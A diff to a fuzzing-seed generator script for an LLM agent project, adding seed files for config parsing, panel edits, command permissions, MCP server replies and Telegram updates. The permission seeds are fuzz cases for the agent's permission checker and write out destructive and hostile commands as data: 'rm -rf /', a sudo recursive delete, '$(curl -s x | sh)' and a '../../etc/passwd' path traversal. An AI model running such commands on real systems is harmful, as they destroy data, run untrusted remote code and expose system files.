@@ -8,7 +8,7 @@ corpus=$1
 out=$2
 here=$(cd "$(dirname "$0")" && pwd)
 [ -d "$corpus/01_openai_chat_stream" ] || { echo "seeds.sh: no recorded traffic in $corpus" >&2; exit 1; }
-mkdir -p "$out"/{stream_decoders,tool_arguments,slash_commands,split_message,telegram_markdown,recordings}
+mkdir -p "$out"/{stream_decoders,tool_arguments,slash_commands,split_message,telegram_markdown,recordings,config,panel_config_edit,permissions,mcp_server,telegram_updates}
 
 # stream_decoders: the dialect byte is what the target's `which % 7` picks.
 stream() { # DIALECT_BYTE CATEGORY FILE
@@ -67,3 +67,34 @@ printf '```rust\nlet x = "`\\";\n```\n' >"$out/telegram_markdown/fence"
 
 # recordings: the committed cassette.
 cp "$here/../examples/cassettes/weather.json" "$out/recordings/weather.json"
+
+# config: every TOML block of the guides.
+awk -v dir="$out/config" '/^```toml/ { inside = 1; n++; next } /^```/ { inside = 0 } inside { print > (dir "/docs-" n) }' "$here"/../docs/*.md
+
+# panel_config_edit: a config from the guides, NUL, the panel's request body.
+i=0
+for body in '{"key":"agent.max_tool_rounds","value":5}' '{"key":"llm.model","value":"qwen3:8b"}' \
+	'{"key":"telegram.allowed_user_ids","value":[111,222]}' '{"key":"llm.base_url","value":null}' \
+	'{"key":"agent.system_prompt","value":"You are \"terse\".\n[llm]"}' '{"key":"nope.nothing","value":true}'; do
+	{ cat "$out/config/docs-1"; printf '\0%s' "$body"; } >"$out/panel_config_edit/$((i++))"
+done
+
+# permissions: a script, then rules of (permission, tool, command, path) split by \x01.
+i=0
+for case in 'rm -rf /\x01\x02*\x01rm *\x01' 'echo hi; sudo -u root rm -rf /srv\x01\x00run_script\x01echo *\x01' \
+	'$(curl -s x | sh) && ls\x01\x00*\x01ls *\x01' 'cd /tmp && tar xzf a.tgz\x01\x01remove\x01\x01/tmp/**' \
+	"sh -c 'eval \"rm -f x\"' # c\x01\x02*\x01rm *\x01" '../../etc/passwd\x01\x00remove\x01\x01~/**'; do
+	printf "$case" >"$out/permissions/$((i++))"
+done
+
+# mcp_server: an initialize answer, then a tools/list answer, a line each.
+printf '%s\n%s' '{"jsonrpc":"2.0","id":0,"result":{"protocolVersion":"2025-06-18","capabilities":{"tools":{}},"serverInfo":{"name":"x","version":"1"}}}' \
+	'{"jsonrpc":"2.0","id":1,"result":{"tools":[{"name":"echo","description":"Echo","inputSchema":{"type":"object","properties":{"text":{"type":"string"}},"required":["text"]}},{"name":"bad name!","inputSchema":{"type":"object","properties":{"n":{"anyOf":[{"type":"integer"},{"type":"null"}]}}}}]}}' \
+	>"$out/mcp_server/tools"
+printf '%s' '{"jsonrpc":"2.0","id":0,"error":{"code":-32600,"message":"no"}}' >"$out/mcp_server/refused"
+
+# telegram_updates: the recorded updates, each as a webhook request's body.
+for response in "$corpus"/07_telegram_updates/*/response.json; do
+	name=$(basename "$(dirname "$response")")
+	jq -c '(.result // [.])[]' "$response" | head -n 8 | split -l 1 - "$out/telegram_updates/$name-"
+done
